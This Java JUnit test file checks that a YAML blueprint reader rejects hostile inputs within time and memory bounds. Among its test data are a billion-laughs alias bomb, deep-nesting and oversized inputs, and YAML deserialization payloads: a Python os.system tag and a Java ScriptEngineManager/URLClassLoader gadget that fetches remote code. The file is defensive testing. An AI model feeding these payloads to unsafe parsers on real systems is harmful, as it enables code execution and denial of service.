package dev.onramp.blueprint;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.onramp.diagnostic.Diagnostic;
import java.io.ByteArrayOutputStream;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Inputs meant to hurt a YAML reader, each refused with a located error, within a time and an
 * allocation bound (a hang guard and a memory guard, not benchmarks: the bounds are tens of times
 * what the reads take). docs/reliability.md has the table of these inputs and what they gave.
 */
class HostileBlueprintsTest {
  private static final String FILE = "hostile.yaml";
  private static final String HEADER = "apiVersion: onramp.dev/v1\nkind: Blueprint\n";

  static Stream<Arguments> hostileInputs() {
    return Stream.of(
        hostile(
            "alias bomb (billion laughs: nine levels of nine aliases)",
            HostileBlueprintsTest::billionLaughs,
            "hostile.yaml:3:4: error ONR003 at a: YAML anchors (&a) are not supported"),
        hostile(
            "nesting 10,000 levels deep",
            () -> bytes(HEADER + "x: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n"),
            "hostile.yaml:3:68: error ONR003 at x"),
        hostile(
            "a 2 MiB document",
            () -> bytes(HEADER + "description: " + "x".repeat(2 << 20) + "\n"),
            "hostile.yaml:1:1: error ONR003: the file is 2,097,208 bytes, more than the 1,048,576"),
        hostile(
            "a 100,000-character string",
            () -> bytes(HEADER + "metadata:\n  description: " + "y".repeat(100_000) + "\n"),
            "hostile.yaml:4:16: error ONR003 at metadata.description: a value of 100,000"
                + " characters"),
        hostile(
            "a 50,000-character key",
            () -> bytes(HEADER + "k".repeat(50_000) + ": 1\n"),
            // YAML allows implicit keys of 1,024 characters: the parser stops at the limit.
            "hostile.yaml:3:50001: error ONR001: invalid YAML: could not find expected ':'"),
        hostile(
            "a duplicate key",
            () -> bytes(HEADER + "metadata:\n  name: a\n  name: b\n"),
            "hostile.yaml:5:3: error ONR002 at metadata.name: key 'name' appears twice"),
        hostile(
            "a tab for indentation",
            () -> bytes(HEADER + "metadata:\n\tname: a\n"),
            "hostile.yaml:4:1: error ONR001: invalid YAML: a tab character is used for indentation"),
        hostile(
            "bytes that are not UTF-8 (an ISO-8859-1 é)",
            () -> {
              ByteArrayOutputStream out = new ByteArrayOutputStream();
              out.writeBytes(bytes(HEADER + "metadata:\n  description: caf"));
              out.write(0xE9);
              out.writeBytes(bytes("\n"));
              return out.toByteArray();
            },
            "hostile.yaml:4:19: error ONR004: the file is not valid UTF-8"),
        hostile(
            "a Python tag (!!python/object/apply:os.system)",
            () -> bytes(HEADER + "metadata: !!python/object/apply:os.system [\"id\"]\n"),
            "hostile.yaml:3:11: error ONR003 at metadata: YAML tag"
                + " 'tag:yaml.org,2002:python/object/apply:os.system' is not supported"),
        hostile(
            "a Java tag (!!javax.script.ScriptEngineManager)",
            () ->
                bytes(
                    HEADER
                        + "metadata: !!javax.script.ScriptEngineManager"
                        + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n"),
            "hostile.yaml:3:11: error ONR003 at metadata: YAML tag"
                + " 'tag:yaml.org,2002:javax.script.ScriptEngineManager' is not supported"),
        hostile(
            "CloudFormation's !Ref in a blueprint",
            () -> bytes(HEADER + "metadata:\n  name: !Ref AWS::StackName\n"),
            "hostile.yaml:4:9: error ONR003 at metadata.name: YAML tag '!Ref' is not supported"),
        hostile(
            "a merge key pulling in an anchor",
            () -> bytes(HEADER + "base: &b {name: a}\nmetadata:\n  <<: *b\n"),
            "hostile.yaml:3:7: error ONR003 at base: YAML anchors (&b) are not supported"),
        hostile(
            "two documents",
            () -> bytes(HEADER + "---\n" + HEADER),
            "hostile.yaml:4:1: error ONR003: the file holds more than one YAML document"),
        hostile(
            "100,000 unknown keys (within the size limit)",
            () -> {
              StringBuilder text = new StringBuilder(HEADER);
              for (int i = 0; i < 100_000; i++) {
                text.append('k').append(i).append(": 1\n");
              }
              return bytes(text.toString());
            },
            "hostile.yaml:3:1: error ONR101 at k0: unknown key 'k0'"),
        hostile(
            "a 60-character key (a key of any length up to YAML's 1,024 is read, then checked)",
            () -> bytes(HEADER + "k".repeat(60) + ": 1\n"),
            "hostile.yaml:3:1: error ONR101 at " + "k".repeat(60) + ": unknown key"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostileInputs")
  void isRefusedWithALocatedErrorInBoundedTimeAndMemory(
      String what, Supplier<byte[]> input, String firstError) {
    byte[] bytes = input.get();
    com.sun.management.ThreadMXBean threads =
        (com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean();
    long[] allocated = new long[1];
    long start = System.nanoTime();
    BlueprintReader.Result result =
        assertTimeoutPreemptively(
            Duration.ofSeconds(30),
            () -> {
              long before = threads.getCurrentThreadAllocatedBytes();
              BlueprintReader.Result read = BlueprintReader.read(FILE, bytes);
              allocated[0] = threads.getCurrentThreadAllocatedBytes() - before;
              return read;
            });
    long millis = (System.nanoTime() - start) / 1_000_000;

    assertThat(result.blueprint()).as(what).isEmpty();
    List<Diagnostic> errors = result.problems().stream().filter(Diagnostic::isError).toList();
    assertThat(errors).as(what).isNotEmpty();
    assertThat(errors.get(0).render()).as(what).startsWith(firstError);
    assertThat(errors).allSatisfy(error -> assertThat(error.location().line()).isPositive());
    // Memory: what a read allocates stays within a fixed multiple of the input, plus room.
    assertThat(allocated[0])
        .as(what + ": bytes allocated")
        .isLessThan(200L * bytes.length + (64 << 20));
    System.out.printf(
        Locale.ROOT,
        "hostile input | %s | %,d bytes | %,d ms | %,d kB allocated | %d errors | %s%n",
        what,
        bytes.length,
        millis,
        allocated[0] / 1024,
        errors.size(),
        errors.get(0).render().lines().findFirst().orElse(""));
  }

  private static byte[] billionLaughs() {
    StringBuilder text = new StringBuilder(HEADER);
    text.append(
        "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    String previous = "a";
    for (char level = 'b'; level <= 'i'; level++) {
      text.append(level).append(": &").append(level).append(" [");
      for (int i = 0; i < 9; i++) {
        text.append(i == 0 ? "" : ",").append('*').append(previous);
      }
      text.append("]\n");
      previous = String.valueOf(level);
    }
    return bytes(text.toString());
  }

  private static Arguments hostile(String what, Supplier<byte[]> input, String firstError) {
    return Arguments.of(what, input, firstError);
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
